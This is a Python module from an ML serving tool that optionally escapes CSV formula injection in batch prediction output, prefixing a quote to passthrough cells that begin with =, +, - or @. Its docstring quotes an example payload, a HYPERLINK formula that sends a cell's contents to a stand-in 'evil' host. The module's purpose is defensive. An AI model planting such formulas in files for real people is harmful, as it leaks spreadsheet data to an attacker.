"""Opt-in defence against CSV formula injection (`MLSERVE_BATCH_ESCAPE_FORMULAS`).

A passthrough cell such as `=HYPERLINK("http://evil/?"&A1)` is inert text to mlserve but a
live formula when a person opens the predictions in a spreadsheet. With escaping on, every
passthrough cell that starts with `=`, `+`, `-` or `@` gets a leading `'` (OWASP's advice),
which spreadsheets show as text. Model input columns are never touched (they are validated
numbers/strings the model saw), nor are the prediction columns mlserve adds.
"""

from __future__ import annotations

import csv
import io
import re

TRIGGERS = ("=", "+", "-", "@")
# A field that may start with a trigger (optionally inside quotes): only these records are
# re-parsed; every other record keeps its bytes.
_CANDIDATE = re.compile(rb'(?:^|[,\n])"?[=+\-@]')


def _field(text: str) -> str:
    if any(ch in text for ch in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def escape_record(record: str, passthrough: list[int]) -> str:
    """One CSV record (no line end) with its passthrough formula cells prefixed by `'`."""
    fields = next(csv.reader(io.StringIO(record, newline="")), [])
    changed = False
    for position in passthrough:
        if position < len(fields) and fields[position].startswith(TRIGGERS):
            fields[position] = "'" + fields[position]
            changed = True
    return ",".join(_field(f) for f in fields) if changed else record


def escape_formulas(output: bytes, passthrough: list[int], rows: int) -> bytes:
    """`rows` output records (each ending in LF) with passthrough formula cells escaped."""
    if not passthrough or not _CANDIDATE.search(output):
        return output
    from mlserve.batch.reader import _split

    starts, ends, _, _, _, _ = _split(output, final=True)
    if len(starts) != rows:  # cannot happen for the scorer's own output; never guess
        raise RuntimeError(f"formula escaping found {len(starts)} records for {rows} rows")
    parts: list[bytes] = []
    for start, end in zip(starts.tolist(), ends.tolist(), strict=True):
        record = output[start:end]
        if _CANDIDATE.search(record):
            record = escape_record(record.decode("utf-8"), passthrough).encode("utf-8")
        parts.append(record)
    parts.append(b"")
    return b"\n".join(parts)
